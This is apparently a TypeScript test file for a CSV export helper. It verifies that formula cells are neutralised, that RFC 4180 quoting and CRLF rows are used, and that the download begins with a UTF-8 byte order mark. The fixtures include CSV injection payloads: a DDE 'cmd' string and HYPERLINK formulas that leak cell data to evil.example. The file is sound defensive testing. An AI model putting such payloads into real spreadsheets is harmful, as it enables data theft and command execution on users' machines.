// CSV exports that open cleanly in a spreadsheet: formula cells neutralised, RFC 4180 quoting,
// CRLF rows, and UTF-8 with a byte order mark so Excel keeps "Núñez" intact.
import { Hono } from "hono";
import { describe, expect, it } from "vitest";
import { csvCell, csvResponse, toCsv, UTF8_BOM, type CsvColumn } from "../../src/lib/csv.ts";

describe("csvCell", () => {
  it("neutralises every character a spreadsheet reads as the start of a formula", () => {
    for (const start of ["=", "+", "-", "@", "\t", "\r"]) {
      const cell = csvCell(`${start}1+1`);
      expect(cell.replace(/^"/, "").startsWith("'"), JSON.stringify(start)).toBe(true);
    }
    expect(csvCell("\r=cmd|' /C calc'!A0")).toBe(`"'\r=cmd|' /C calc'!A0"`);
  });

  it("quotes a hostile HYPERLINK so it reads back as text, quotes doubled", () => {
    expect(csvCell('=HYPERLINK("https://evil.example/?leak="&A1,"Click")')).toBe(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")"`);
  });

  it("leaves accented names and formula characters inside the text alone", () => {
    expect(csvCell("Núñez")).toBe("Núñez");
    expect(csvCell("Peña & Hijos = best")).toBe("Peña & Hijos = best");
  });

  it("writes rows with CRLF, a row with a line break quoted", () => {
    expect(toCsv([["a", "two\r\nlines"]])).toBe('a,"two\r\nlines"\r\n');
  });
});

describe("csvResponse", () => {
  type Row = { name: string; note: string };
  const columns: ReadonlyArray<CsvColumn<Row>> = [
    ["name", (r) => r.name],
    ["note", (r) => r.note],
  ];
  const app = new Hono().get("/x.csv", (c) => csvResponse(c, "x.csv", columns, [{ name: "José Núñez", note: '=HYPERLINK("https://evil.example","x")' }]));

  it("answers a UTF-8 download that starts with a byte order mark", async () => {
    const res = await app.request("/x.csv");
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("content-disposition")).toBe('attachment; filename="x.csv"');
    const bytes = new Uint8Array(await res.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder("utf-8", { fatal: false, ignoreBOM: true }).decode(bytes);
    expect(text).toBe(`${UTF8_BOM}name,note\r\nJosé Núñez,"'=HYPERLINK(""https://evil.example"",""x"")"\r\n`);
  });
});
